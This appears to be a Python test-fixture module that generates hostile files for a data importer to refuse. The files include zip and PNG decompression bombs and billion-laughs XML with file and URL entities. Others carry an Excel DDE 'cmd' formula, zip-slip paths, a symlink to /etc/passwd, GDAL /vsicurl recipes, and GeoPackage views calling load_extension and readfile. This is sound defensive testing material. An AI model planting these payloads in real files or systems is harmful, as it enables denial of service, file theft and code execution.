"""Files that somebody means ill with: each is made in a folder, and may point at a bait there or on this machine.

``Bait`` has a file that nobody may open and an address that nobody may call.
"""

import json
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any

import geopandas
from openpyxl import Workbook
from PIL import Image
from shapely import Point

MEGA = 1024 * 1024
SECRET = "betets-hemlighet"
HEAD = "Plats;Kategori;Åtgärd;namn;typ;x;y"
"""Headings that every importer of tables finds something in."""


@dataclass(frozen=True)
class Bait:
    """What recipes in files point at."""

    file: Path
    url: str


Maker = Callable[[Path, Bait], Path]


def _text(name: str, text: str | bytes) -> Maker:
    def make(folder: Path, bait: Bait) -> Path:
        file = folder / name
        data = text.encode() if isinstance(text, str) else text
        data = data.replace(b"{bait}", str(bait.file).encode()).replace(b"{url}", bait.url.encode())
        file.write_bytes(data)
        return file

    return make


def zeros_packed(megabytes: int) -> bytes:
    """What so many megabytes of zeros are once packed, made without packing them all: whole blocks repeat."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = packer.compress(bytes(MEGA)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(MEGA)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (megabytes - 1) + packer.flush(zlib.Z_FINISH)


def _zip(members: dict[str, tuple[bytes, int]], *, packed: bool = True) -> bytes:
    """A zip of members given as (bytes as they lie in it, size they claim to unpack to)."""
    out, central = BytesIO(), BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    for name, (data, size) in members.items():
        at, raw = out.tell(), name.encode()
        about = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, 0, len(data), size, len(raw), 0)
        out.write(b"PK\x03\x04" + about + raw + data)
        central.write(b"PK\x01\x02\x14\x00" + about + struct.pack("<HHHII", 0, 0, 0, 0, at) + raw)
    at = out.tell()
    out.write(central.getvalue())
    sizes = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central.getvalue()), at, 0)
    out.write(b"PK\x05\x06" + sizes)
    return out.getvalue()


def _bomb(claimed: int) -> Maker:
    """A workbook of 2 MB that unpacks to 2 GB, and says ``claimed`` of it."""

    def make(folder: Path, _bait: Bait) -> Path:
        sheet = zeros_packed(2_000)
        members = {"[Content_Types].xml": (b"\x03\x00", 0), "xl/worksheets/sheet1.xml": (sheet, claimed)}
        file = folder / "bomb.xlsx"
        file.write_bytes(_zip(members))
        return file

    return make


def _big_xlsx(folder: Path, _bait: Bait) -> Path:
    """A real workbook of 5 MB whose sheet unpacks to 2 GB of cells."""
    file = folder / "big.xlsx"
    small = BytesIO()
    book = Workbook()
    book.active.append(HEAD.split(";"))
    book.save(small)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    row = b"<row>" + b'<c t="inlineStr"><is><t>Skolan</t></is></c>' * 24_000 + b"</row>"
    row = row[:MEGA].ljust(MEGA)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(row) + packer.flush(zlib.Z_FULL_FLUSH)
    sheet = head + block * 2_000 + packer.flush(zlib.Z_FINISH)
    sheet += b"\x00" * (5 * MEGA - len(sheet))
    with zipfile.ZipFile(small) as archive:
        members = {
            name: (archive.read(name), len(archive.read(name)))
            for name in archive.namelist()
            if "sheet1" not in name
        }
    packed = {}
    for name, (data, size) in members.items():
        one = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        packed[name] = (one.compress(data) + one.flush(), size)
    packed["xl/worksheets/sheet1.xml"] = (sheet, 2_000 * MEGA)
    file.write_bytes(_zip(packed))
    return file


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + '<!ENTITY out SYSTEM "file://{bait}"><!ENTITY net SYSTEM "{url}">]>'
)


def _laughing_xlsx(folder: Path, bait: Bait) -> Path:
    """A workbook whose sheet is billions of laughs, and asks for the bait."""
    file, small = folder / "laughs.xlsx", BytesIO()
    book = Workbook()
    book.active.append(HEAD.split(";"))
    book.active.append(["&m;"] * 7)
    book.save(small)
    prologue = _LAUGHS.replace("{bait}", str(bait.file)).replace("{url}", bait.url)
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'{prologue}<worksheet xmlns="{space}"><sheetData><row><c t="inlineStr"><is><t>Plats</t></is></c></row>'
    sheet += '<row><c t="inlineStr"><is><t>&m;&out;&net;</t></is></c></row></sheetData></worksheet>'
    with zipfile.ZipFile(small) as archive, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        for name in archive.namelist():
            out.writestr(name, sheet if name.endswith("sheet1.xml") else archive.read(name))
    return file


def _linked_xlsx(folder: Path, bait: Bait) -> Path:
    """A workbook of formulas: calls out, programs started, a sheet in another file."""
    file = folder / "formulas.xlsx"
    book = Workbook()
    book.active.append(HEAD.split(";"))
    calls = (f'=WEBSERVICE("{bait.url}")', "=cmd|'/C calc'!A0", f"='file://{bait.file}'#$Sheet1.A1")
    book.active.append([*calls, f'=IMPORTDATA("{bait.url}")', f'=HYPERLINK("{bait.url}")', "nan", "1e308"])
    book.save(file)
    return file


def _travelling_xlsx(folder: Path, _bait: Bait) -> Path:
    file = folder / "travel.xlsx"
    with zipfile.ZipFile(file, "w") as out:
        for name in ("../../../evil.txt", "/var/evil.txt", "..\\..\\evil.txt", "xl/workbook.xml"):
            out.writestr(name, SECRET)
        link = zipfile.ZipInfo("xl/link")
        link.external_attr = 0o120777 << 16
        out.writestr(link, "/etc/passwd")
    return file


def _geojson(
    coordinates: str, kind: str = "Point", properties: str = '{"kategori":"Stöld"}', head: str = ""
) -> Maker:
    return _text(
        "a.geojson",
        f'{{"type":"FeatureCollection",{head}"features":[{{"type":"Feature","properties":{properties},'
        f'"geometry":{{"type":"{kind}","coordinates":{coordinates}}}}}]}}',
    )


def _gpkg(folder: Path, name: str = "a.gpkg") -> Path:
    file = folder / name
    places = geopandas.GeoDataFrame({"kategori": ["Stöld"]}, geometry=[Point(783_730, 7_131_492)], crs=3006)
    places.to_file(file, driver="GPKG")
    return file


def _gpkg_with(*statements: str) -> Maker:
    """A GeoPackage with more in it than a layer: what its makers would like SQLite or GDAL to do."""

    def make(folder: Path, bait: Bait) -> Path:
        file = _gpkg(folder)
        with sqlite3.connect(file) as connection:
            connection.execute("PRAGMA writable_schema=ON")
            for statement in statements:
                connection.execute(statement.format(bait=bait.file, url=bait.url))
        connection.close()
        return file

    return make


def _vertices(folder: Path, _bait: Bait) -> Path:
    file = folder / "vertices.geojson"
    with file.open("w") as out:
        out.write('{"type":"LineString","coordinates":[')
        for _ in range(100):
            out.write("[0,0]," * 100_000)
        out.write("[1,1]]}")
    return file


def _many_vertices_gpkg(number: int) -> Maker:
    """One line of so many vertices, of 16 bytes each."""

    def make(folder: Path, _bait: Bait) -> Path:
        return _line_of(_gpkg(folder), number)

    return make


def _line_of(file: Path, number: int) -> Path:
    head = b"GP\x00\x01" + struct.pack("<i", 3006) + b"\x01" + struct.pack("<II", 2, number)
    with sqlite3.connect(file) as connection:
        names = connection.execute("SELECT name FROM sqlite_master WHERE type='trigger'").fetchall()
        for (name,) in names:
            connection.execute(f'DROP TRIGGER "{name}"')
        connection.execute(
            "UPDATE a SET geom = ?", (head + struct.pack("<2d", 783_730.0, 7_131_492.0) * number,)
        )
    connection.close()
    return file


def _json(name: str, value: Any) -> Maker:
    return _text(name, json.dumps(value))


def _picture(make: Callable[[Path], None], name: str) -> Maker:
    def made(folder: Path, _bait: Bait) -> Path:
        make(folder / name)
        return folder / name

    return made


def _png_bomb(file: Path) -> None:
    """A PNG of 50,000 × 50,000 pixels, as its header says, in some kilobytes."""
    whole = BytesIO()
    Image.new("1", (64, 64)).save(whole, "PNG")
    data = bytearray(whole.getvalue())
    data[16:24] = struct.pack(">II", 50_000, 50_000)
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    file.write_bytes(data)


def _dxf(blocks: str, entities: str) -> Maker:
    """A drawing with these blocks and these things drawn, as pairs of code and value."""
    text = f"0 SECTION 2 HEADER 0 ENDSEC 0 SECTION 2 BLOCKS {blocks} 0 ENDSEC 0 SECTION 2 ENTITIES {entities} 0 ENDSEC 0 EOF"
    return _text("a.dxf", "\n".join(text.split(" ")) + "\n")


def _laughing_block(number: int) -> str:
    inside = f"0 INSERT 2 B{number - 1} 10 0 20 0 " * 10 if number else "0 POINT 10 783730 20 7131492 "
    return f"0 BLOCK 2 B{number} 10 0 20 0 {inside}0 ENDBLK "


def _sqlite_with(*statements: str) -> Maker:
    """A SQLite file that calls itself a backup, with more in it than one."""

    def make(folder: Path, bait: Bait) -> Path:
        file = folder / "backup.sqlite"
        with sqlite3.connect(file) as connection:
            connection.execute("CREATE TABLE alembic_version (version_num TEXT)")
            connection.execute("INSERT INTO alembic_version VALUES ('0003')")
            connection.execute("CREATE TABLE revision (id INTEGER, number INTEGER)")
            connection.execute("INSERT INTO revision VALUES (1, 1)")
            for statement in statements:
                connection.execute(statement.format(bait=bait.file, url=bait.url))
        connection.close()
        return file

    return make


def _archive(*names: str, manifest: bool = True) -> Maker:
    """A zip that calls itself a backup, with members of these names."""

    def make(folder: Path, _bait: Bait) -> Path:
        file = folder / "backup.zip"
        with zipfile.ZipFile(file, "w") as out:
            for name in ("trygg.sqlite", *names):
                out.writestr(name, SECRET)
            told = {name: {"bytes": len(SECRET), "sha256": "0" * 64} for name in ("trygg.sqlite", *names)}
            if manifest:
                out.writestr("manifest.json", json.dumps({"format": 1, "files": told}))
        return file

    return make


FILES: dict[str, Maker] = {
    # Archives
    "a zip bomb that says what it is": _bomb(2_000 * MEGA),
    "a zip bomb that says it is small": _bomb(1_000),
    "a workbook of 5 MB that unpacks to 2 GB": _big_xlsx,
    "a zip of a zip of nothing": _text("a.xlsx", b"PK\x05\x06" + bytes(18)),
    "a workbook of billions of laughs": _laughing_xlsx,
    "a workbook whose members leave their folder": _travelling_xlsx,
    "a workbook cut off": _text("a.xlsx", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\xff" * 3_000),
    # Recipes
    "a VRT called GeoJSON": _text(
        "a.geojson", '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{bait}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    ),
    "a VRT that calls out": _text(
        "a.geojson", '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    ),
    "a GDALG called GeoJSON": _text(
        "a.geojson", '{"type":"gdal_streamed_alg","command_line":"gdal vector pipeline ! read {bait} ! write evil.gpkg","relative_paths_relative_to_this_file":false}'
    ),
    "a GDALG that calls out": _text(
        "a.geojson", '{"type":"gdal_streamed_alg","command_line":"gdal vector pipeline ! read /vsicurl/{url}/a.geojson"}'
    ),
    "the name of a file elsewhere": _text("a.geojson", "/vsicurl/{url}/x.geojson"),
    "XML of billions of laughs": _text("a.csv", _LAUGHS + "<x>&m;&out;&net;</x>"),
    "an SVG of billions of laughs": _text("a.svg", _LAUGHS + '<svg xmlns="http://www.w3.org/2000/svg"><text>&m;</text><image href="{url}"/></svg>'),
    "GeoJSON with its system at an address": _geojson("[20.84,64.19]", head='"crs":{"type":"link","properties":{"href":"{url}","type":"proj4"}},'),
    "a GeoPackage with a table elsewhere": _gpkg_with(
        "INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) VALUES('table','v','v',0,'CREATE VIRTUAL TABLE v USING VirtualOGR(''{bait}'')')",
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('v','features','v',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('v','geom','POINT',3006,0,0)",
    ),
    "a GeoPackage of nothing but a table elsewhere": _gpkg_with(
        "DELETE FROM gpkg_contents",
        "DELETE FROM gpkg_geometry_columns",
        "INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) VALUES('table','v','v',0,'CREATE VIRTUAL TABLE v USING VirtualOGR(''{bait}'')')",
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('v','features','v',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('v','geom','POINT',3006,0,0)",
    ),
    "a GeoPackage that calls out": _gpkg_with(
        "DELETE FROM gpkg_contents",
        "DELETE FROM gpkg_geometry_columns",
        "INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) VALUES('table','v','v',0,'CREATE VIRTUAL TABLE v USING VirtualOGR(''/vsicurl/{url}/a.geojson'')')",
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('v','features','v',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('v','geom','POINT',3006,0,0)",
    ),
    "a GeoPackage with a program in its only view": _gpkg_with(
        "DELETE FROM gpkg_contents",
        "DELETE FROM gpkg_geometry_columns",
        "CREATE VIEW evil AS SELECT fid, geom, load_extension('{bait}') AS x, readfile('{bait}') AS y, ogr_geocode('{bait}') AS z FROM a",
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('evil','features','evil',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('evil','geom','POINT',3006,0,0)",
    ),
    "a GeoPackage that computes for ever": _gpkg_with(
        "DELETE FROM gpkg_contents",
        "DELETE FROM gpkg_geometry_columns",
        "CREATE VIEW evil AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n) SELECT i AS fid, (SELECT geom FROM a) AS geom FROM n",
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('evil','features','evil',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('evil','geom','POINT',3006,0,0)",
    ),
    "a GeoPackage with a program in a view": _gpkg_with(
        "CREATE VIEW evil AS SELECT load_extension('{bait}') AS x, readfile('{bait}') AS y",
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('evil','features','evil',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('evil','x','POINT',3006,0,0)",
    ),
    "a GeoPackage that names an extension": _gpkg_with(
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('../../{bait}','features','z',3006)",
        "INSERT INTO gpkg_geometry_columns VALUES('../../{bait}','geom','POINT',3006,0,0)",
    ),
    # Numbers
    "coordinates that are no numbers": _geojson("[NaN,64.19]"),
    "coordinates beyond all bounds": _geojson("[1e308,-1e308]"),
    "coordinates that become infinite": _geojson("[1e999,64.19]"),
    "coordinates of 400 digits": _geojson(f"[{'9' * 400},64.19]"),
    "coordinates of 5000 digits": _geojson(f"[{'9' * 5000},64.19]"),
    "SWEREF numbers called WGS 84": _geojson("[783730,7131492]"),
    "degrees called SWEREF": _geojson("[20.84,64.19]", head='"crs":{"type":"name","properties":{"name":"EPSG:3006"}},'),
    "coordinates that are lists of lists": _geojson("[[[[[[20.84]]]]]]", kind="Polygon"),
    "10^7 vertices": _vertices,
    "10^7 vertices in a GeoPackage": _many_vertices_gpkg(10_000_000),
    "5·10^6 vertices in a GeoPackage": _many_vertices_gpkg(5_000_000),
    # Text
    "a million columns": _text("a.csv", ";".join(f"k{n}" for n in range(1_000_000)) + "\n" + ";" * 999_999),
    "a heading of 50 MB": _text("a.csv", "Plats;" + "x" * 50_000_000 + "\nSkolan;1\n"),
    "invalid UTF-8": _text("a.csv", HEAD.encode() + b"\n\xc3\x28\xa0\xa1\xe2\x28\xa1;\xf0\x28\x8c\xbc;\x81\x8d;;;;\n"),
    "NUL bytes": _text("a.csv", HEAD.encode() + b"\nSko\x00lan;St\x00ld;;;;;\n"),
    "NUL bytes only": _text("a.csv", bytes(5_000)),
    "a quotation mark that never ends": _text("a.csv", HEAD + '\n"' + "a;b\n" * 500_000),
    "JSON that goes in and never out": _text("a.geojson", "[" * 2_000_000),
    "JSON of one thing over and over": _text("a.geojson", '{"type":"FeatureCollection","features":[' + "{}," * 3_000_000 + "{}]}"),
    # Drawings
    "a drawing of billions of laughs": _dxf("".join(_laughing_block(n) for n in range(12)).strip(), "0 INSERT 2 B11 10 0 20 0"),
    "a drawing of a million million copies": _dxf(_laughing_block(0).strip(), "0 INSERT 2 B0 10 0 20 0 70 1000000 71 1000000 44 1 45 1"),
    "a drawing that holds itself": _dxf("0 BLOCK 2 B 10 0 20 0 0 INSERT 2 B 10 0 20 0 0 ENDBLK", "0 INSERT 2 B 10 0 20 0"),
    "a drawing of another drawing": _dxf("0 BLOCK 2 X 70 4 1 {bait} 3 X 10 0 20 0 0 ENDBLK", "0 INSERT 2 X 10 0 20 0"),
    "a drawing cut off": _text("a.dxf", "0\nSECTION\n2\nENTITIES\n0\nLINE\n10\n" + "9" * 400),
    "a drawing that is a recipe": _text("a.dxf", "0\nSECTION\n<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>{bait}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"),
    # Pictures
    "a picture of 2.5 gigapixels": _picture(_png_bomb, "bomb.png"),
    "a picture that is none": _text("a.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 2_000),
    # Backups
    "a backup that leaves its folder": _archive("photos/../../../evil.jpg"),
    "a backup with a path of its own": _archive("/var/evil.jpg"),
    "a backup without a list": _archive(manifest=False),
    "a backup with triggers": _sqlite_with("CREATE TRIGGER evil AFTER UPDATE ON revision BEGIN DELETE FROM alembic_version; END"),
    "a backup with a program in a view": _sqlite_with("CREATE VIEW evil AS SELECT load_extension('{bait}') AS x"),
}  # fmt: skip
"""What each is → what makes it. Every one is refused whole, by every door."""

FORMULAS: Maker = _linked_xlsx
